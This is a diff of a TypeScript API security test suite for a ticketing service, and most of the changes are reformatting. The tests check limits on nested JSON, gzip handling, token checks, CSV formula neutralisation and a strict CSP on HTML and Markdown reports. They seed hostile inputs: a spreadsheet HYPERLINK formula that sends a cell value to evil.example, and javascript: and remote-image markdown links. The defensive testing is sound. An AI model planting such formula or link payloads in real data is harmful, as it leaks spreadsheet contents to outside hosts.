@@ -36,15 +36,26 @@ beforeAll(async () => {
   reporter = t.auth({ roles: ['reporter'], tenants: ['CoL'] });
   store = t.app.get(EVENT_STORE);
   await seedCatalogue(t.http, admin);
-  await request(t.http).post('/v1/tenants/CoL/sla-policies').set('Authorization', admin).send({ template: 'city-of-london-2023', effectiveFrom: '2023-01-01T00:00:00Z' }).expect(201);
+  await request(t.http)
+    .post('/v1/tenants/CoL/sla-policies')
+    .set('Authorization', admin)
+    .send({ template: 'city-of-london-2023', effectiveFrom: '2023-01-01T00:00:00Z' })
+    .expect(201);
   const cmd = async (path: string, body: object, minute: number) => {
     clock.set(T0 + minute * MIN);
-    const res = await request(t.http).post(`/v1/tenants/CoL/tickets${path}`).set('Authorization', operator).send({ ...body, occurredAt: new Date(T0 + minute * MIN).toISOString() });
+    const res = await request(t.http)
+      .post(`/v1/tenants/CoL/tickets${path}`)
+      .set('Authorization', operator)
+      .send({ ...body, occurredAt: new Date(T0 + minute * MIN).toISOString() });
     if (res.status >= 300) throw new Error(`${path}: ${res.status} ${JSON.stringify(res.body)}`);
   };
   await cmd('', { ...RAISE, ticketId: 'X1', title: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")' }, 0);
   await cmd('/X1/respond', { respondedBy: 'desk' }, 5);
-  await cmd('/X1/resolve', { resolutionCode: 'fixed', rootCause: HOSTILE_TEXT, resolution: HOSTILE_TEXT, resolvedByGroupId: 'desktop', firstLineFix: false }, 60);
+  await cmd(
+    '/X1/resolve',
+    { resolutionCode: 'fixed', rootCause: HOSTILE_TEXT, resolution: HOSTILE_TEXT, resolvedByGroupId: 'desktop', firstLineFix: false },
+    60,
+  );
   await cmd('', { ...RAISE, ticketId: 'X2', title: '-2+3' }, 70);
   await cmd('', { ...RAISE, ticketId: 'X3', title: '@SUM(1+1)' }, 71);
   await t.app.get(Projector).catchUp();
@@ -68,13 +79,19 @@ describe('bodies', () => {
   });
 
   it('JSON nested 5,000 deep is a 400 naming the body and the depth rule', async () => {
-    for (const deep of ['['.repeat(5000) + ']'.repeat(5000), '{"a":'.repeat(5000) + '1' + '}'.repeat(5000), `{"title":${'['.repeat(5000)}${']'.repeat(5000)}}`]) {
+    for (const deep of [
+      '['.repeat(5000) + ']'.repeat(5000),
+      '{"a":'.repeat(5000) + '1' + '}'.repeat(5000),
+      `{"title":${'['.repeat(5000)}${']'.repeat(5000)}}`,
+    ]) {
       const res = await raise().set('Content-Type', 'application/json').send(deep);
       const body = expectProblem(res, 400, 'body');
       expect(body.errors[0].rule).toBe('maxDepth');
     }
     // Brackets inside strings are text, not depth.
-    const res = await raise().set('Content-Type', 'application/json').send(JSON.stringify({ ...RAISE, ticketId: 'BRACKETS', title: '[{'.repeat(90), description: '{"a":['.repeat(1000) }));
+    const res = await raise()
+      .set('Content-Type', 'application/json')
+      .send(JSON.stringify({ ...RAISE, ticketId: 'BRACKETS', title: '[{'.repeat(90), description: '{"a":['.repeat(1000) }));
     expect(res.status).toBe(201);
   });
 
@@ -86,7 +103,11 @@ describe('bodies', () => {
   it('Content-Encoding: gzip is accepted and inflated; the size limit counts the inflated bytes; a broken or unknown encoding is a 4xx', async () => {
     // fetch sends the bytes as they are (supertest would serialise a Buffer as JSON).
     const post = async (encoding: string, body: Buffer) => {
-      const res = await fetch(`${t.http}/v1/tenants/CoL/tickets`, { method: 'POST', headers: { authorization: operator, 'content-type': 'application/json', 'content-encoding': encoding }, body });
+      const res = await fetch(`${t.http}/v1/tenants/CoL/tickets`, {
+        method: 'POST',
+        headers: { authorization: operator, 'content-type': 'application/json', 'content-encoding': encoding },
+        body,
+      });
       return { status: res.status, headers: { 'content-type': res.headers.get('content-type') ?? '' }, text: await res.text() } as unknown as request.Response;
     };
     const ok = await post('gzip', gzipSync(JSON.stringify({ ...RAISE, ticketId: 'GZ1', title: 'zipped' })));
@@ -125,13 +146,15 @@ describe('query parameters and paths', () => {
 
   it('asOfRecorded in a form the API does not read (ISO week date, ordinal date) is a 400 naming it', async () => {
     for (const value of ['2023-W27-1', '2023-184', '2023-07-03T25:00:00Z', '2023-02-30T00:00:00Z', '99999-01-01T00:00:00Z']) {
-      const res = await request(t.http).get(`/v1/tenants/CoL/reports/demand?asOfRecorded=${encodeURIComponent(value)}`).set('Authorization', reporter);
+      const res = await request(t.http)
+        .get(`/v1/tenants/CoL/reports/demand?asOfRecorded=${encodeURIComponent(value)}`)
+        .set('Authorization', reporter);
       expectProblem(res, 400, 'asOfRecorded');
     }
     expect((await request(t.http).get('/v1/tenants/CoL/reports/demand?asOfRecorded=2023-07-03T09:00:00Z').set('Authorization', reporter)).status).toBe(200);
   });
 
-  it("/dashboard/<an Object.prototype name> is a 404, like any other unknown asset", async () => {
+  it('/dashboard/<an Object.prototype name> is a 404, like any other unknown asset', async () => {
     for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
       expectProblem(await request(t.http).get(`/dashboard/${name}`), 404);
     }
@@ -140,7 +163,8 @@ describe('query parameters and paths', () => {
 });
 
 describe('bearer tokens', () => {
-  const sign = (claims: object, options: jwt.SignOptions = {}) => `Bearer ${jwt.sign({ roles: ['operator'], tenants: ['*'], ...claims }, SECRET, { algorithm: 'HS256', issuer: 'itsm', subject: 'mallory', ...options })}`;
+  const sign = (claims: object, options: jwt.SignOptions = {}) =>
+    `Bearer ${jwt.sign({ roles: ['operator'], tenants: ['*'], ...claims }, SECRET, { algorithm: 'HS256', issuer: 'itsm', subject: 'mallory', ...options })}`;
   const tenants = (auth: string) => request(t.http).get('/v1/tenants').set('Authorization', auth);
 
   it('a token without exp is refused', async () => {
@@ -159,7 +183,10 @@ describe('bearer tokens', () => {
 describe('SLA policies', () => {
   it('duplicate warning thresholds are refused naming warningThresholdsPct (each crossing would be recorded twice)', async () => {
     const before = await store.headPosition();
-    const res = await request(t.http).post('/v1/tenants/CoL/sla-policies').set('Authorization', admin).send({ template: 'city-of-london-2023', effectiveFrom: '2024-01-01T00:00:00Z', warningThresholdsPct: [50, 50] });
+    const res = await request(t.http)
+      .post('/v1/tenants/CoL/sla-policies')
+      .set('Authorization', admin)
+      .send({ template: 'city-of-london-2023', effectiveFrom: '2024-01-01T00:00:00Z', warningThresholdsPct: [50, 50] });
     const body = expectProblem(res, 422, 'warningThresholdsPct');
     expect(body.code).toBe('SLA_POLICY.DUPLICATE_THRESHOLD');
     expect(await store.headPosition()).toBe(before);
@@ -168,7 +195,11 @@ describe('SLA policies', () => {
 
 describe('report answers', () => {
   it('CSV: a cell that starts with = + - @ is neutralised with a leading quote; numbers stay numbers', async () => {
-    const res = await request(t.http).get('/v1/tenants/CoL/reports/tickets?sort=raisedAt&order=asc').set('Authorization', reporter).set('Accept', 'text/csv').expect(200);
+    const res = await request(t.http)
+      .get('/v1/tenants/CoL/reports/tickets?sort=raisedAt&order=asc')
+      .set('Authorization', reporter)
+      .set('Accept', 'text/csv')
+      .expect(200);
     expect(res.headers['x-content-type-options']).toBe('nosniff');
     expect(res.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
     expect(res.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"`);
@@ -177,7 +208,10 @@ describe('report answers', () => {
   });
 
   it('the HTML summary carries no script, no javascript: link and no remote resource, under a strict CSP', async () => {
-    const res = await request(t.http).get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html').set('Authorization', reporter).expect(200);
+    const res = await request(t.http)
+      .get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html')
+      .set('Authorization', reporter)
+      .expect(200);
     const csp = res.headers['content-security-policy'];
     expect(csp).toMatch(/default-src 'none'/);
     expect(csp).not.toMatch(/script-src/);
@@ -191,33 +225,40 @@ describe('report answers', () => {
 
   const browserAvailable = ensureChromium();
   if ('skipped' in browserAvailable) console.warn(`SKIPPED: HTML summary under its CSP in a browser: ${browserAvailable.skipped}`);
-  ('path' in browserAvailable ? it : it.skip)('in Chromium, the HTML summary renders its styles and charts under its CSP, runs nothing and fetches nothing', async () => {
-    const browser = await chromium.launch({ executablePath: (browserAvailable as { path: string }).path, args: CHROMIUM_ARGS });
-    try {
-      const page = await browser.newPage();
-      const logged: string[] = [];
-      const requested: string[] = [];
-      let dialogs = 0;
-      page.on('console', (m) => logged.push(`${m.type()}: ${m.text()}`));
-      page.on('request', (r) => requested.push(r.url()));
-      page.on('dialog', (d) => (dialogs++, void d.dismiss()));
-      await page.setExtraHTTPHeaders({ Authorization: reporter });
-      const url = `${t.http}/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html`;
-      expect((await page.goto(url, { waitUntil: 'load' }))?.status()).toBe(200);
-      // What the page itself logged (CSP violations among it); later, the sandbox also blocks the test's own probes.
-      expect(logged).toEqual([]);
-      expect(await page.locator('svg').count()).toBeGreaterThanOrEqual(3);
-      expect(await page.$eval('h2', (h) => h.ownerDocument.defaultView!.getComputedStyle(h).borderBottomStyle)).toBe('solid'); // the inline <style> applies
-      expect(await page.locator('a, img, script').count()).toBe(0);
-      await page.locator('td', { hasText: 'click me' }).first().click();
-      expect({ requested, dialogs }).toEqual({ requested: [url], dialogs: 0 });
-    } finally {
-      await browser.close();
-    }
-  }, 60_000);
+  ('path' in browserAvailable ? it : it.skip)(
+    'in Chromium, the HTML summary renders its styles and charts under its CSP, runs nothing and fetches nothing',
+    async () => {
+      const browser = await chromium.launch({ executablePath: (browserAvailable as { path: string }).path, args: CHROMIUM_ARGS });
+      try {
+        const page = await browser.newPage();
+        const logged: string[] = [];
+        const requested: string[] = [];
+        let dialogs = 0;
+        page.on('console', (m) => logged.push(`${m.type()}: ${m.text()}`));
+        page.on('request', (r) => requested.push(r.url()));
+        page.on('dialog', (d) => (dialogs++, void d.dismiss()));
+        await page.setExtraHTTPHeaders({ Authorization: reporter });
+        const url = `${t.http}/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html`;
+        expect((await page.goto(url, { waitUntil: 'load' }))?.status()).toBe(200);
+        // What the page itself logged (CSP violations among it); later, the sandbox also blocks the test's own probes.
+        expect(logged).toEqual([]);
+        expect(await page.locator('svg').count()).toBeGreaterThanOrEqual(3);
+        expect(await page.$eval('h2', (h) => h.ownerDocument.defaultView!.getComputedStyle(h).borderBottomStyle)).toBe('solid'); // the inline <style> applies
+        expect(await page.locator('a, img, script').count()).toBe(0);
+        await page.locator('td', { hasText: 'click me' }).first().click();
+        expect({ requested, dialogs }).toEqual({ requested: [url], dialogs: 0 });
+      } finally {
+        await browser.close();
+      }
+    },
+    60_000,
+  );
 
   it('the Markdown summary escapes operator text, so no renderer makes it a link or an image', async () => {
-    const res = await request(t.http).get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=md').set('Authorization', reporter).expect(200);
+    const res = await request(t.http)
+      .get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=md')
+      .set('Authorization', reporter)
+      .expect(200);
     expect(res.headers['x-content-type-options']).toBe('nosniff');
     expect(res.text).not.toContain('[click me](javascript:');
     expect(res.text).not.toContain('![pixel](https:');
